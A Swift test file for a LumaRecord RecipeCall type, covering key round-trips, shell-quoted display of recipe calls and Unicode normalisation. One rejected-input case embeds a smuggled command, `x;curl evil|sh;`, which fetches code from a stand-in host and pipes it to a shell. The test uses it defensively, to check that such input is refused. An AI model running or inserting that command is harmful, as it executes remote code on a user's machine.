import LumaTestSupport
import Testing
@testable import LumaRecord

struct RecipeCallTests {
  private static let calls = [
    RecipeCall(), RecipeCall(recipe: "/a/r.lua"), RecipeCall(recipe: "/a/r.lua", parameters: nil),
    RecipeCall(
      recipe: "/a/new\nline.lua",
      parameters: ["size": .text("8"), "tags": .list(["a b", "c"]), "say": .text("it's\n{}")]),
    RecipeCall(recipe: "/a/x\n{}", parameters: nil), RecipeCall(recipe: "/a/x\r", parameters: [:]),
    RecipeCall(recipe: "/a/x\n", parameters: nil), RecipeCall(recipe: "/a/x\ny", parameters: nil),
  ]

  @Test(arguments: calls) func `the record has a call as one text`(_ call: RecipeCall) {
    expectEqual(RecipeCall(key: call.key), call)
  }

  @Test func `no two calls have one text`() {
    expectEqual(Set(Self.calls.map(\.key)).count, Self.calls.count)
    expectEqual(Self.calls[2], Self.calls[1].older)
    expectEqual(Self.calls[1].key, "/a/r.lua\n{}")
  }

  @Test func `a call is shown as it is typed`() {
    let call = RecipeCall(
      recipe: "/a/my recipe.lua",
      parameters: [
        "max_size": .text("8"), "tags": .list(["a", "b"]), "say": .text("it's"),
        "big": .text("true"),
      ])
    expectEqual(
      call.shown(in: "/a"), #"'my recipe.lua' --big=true --max-size 8 --say 'it'\''s' --tags a,b"#)
    expectEqual(RecipeCall(recipe: "/b/r.lua").shown(in: "/a"), "/b/r.lua")
    expectEqual(RecipeCall(recipe: "/a/-r.lua").shown(in: "/a"), "./-r.lua")
    expectEqual(
      RecipeCall(recipe: "/a/r.lua", parameters: nil).shown(in: "/a"), "r.lua (parameters unknown)")
  }

  @Test func `a value that an option cannot have is shown in another way`() {
    let call = RecipeCall(
      recipe: "/a/r.lua", parameters: ["root": .text("y z"), "tags": .list(["a,b", "c"])])
    expectEqual(call.shown(in: "/a", ["root"]), "r.lua -p 'root=y z' --tags a,b --tags c")
  }

  @Test func `a call has one text, however its letters are composed`() {
    let (one, two) = ("caf\u{E9}", "cafe\u{301}")
    let keys = [one, two].map { name in
      RecipeCall(recipe: "/a/\(name).lua", parameters: ["say": .text(name)]).key.utf8.map(\.self)
    }
    expectEqual(keys[0], keys[1])
  }

  @Test(arguments: [
    "[]", #"{"a":1}"#, #"{"a":[1]}"#, #"{"a":{}}"#, #"{"x;curl evil|sh;":"1"}"#, #"{"9":"1"}"#,
    #"{"":"1"}"#, #"{"a":"\#(String(repeating: "x", count: 65_537))"}"#,
  ])
  func `other values are none of a parameter`(_ text: String) throws {
    expectNil(RecipeCall(key: "/a/r.lua\n" + text).parameters)
  }
}
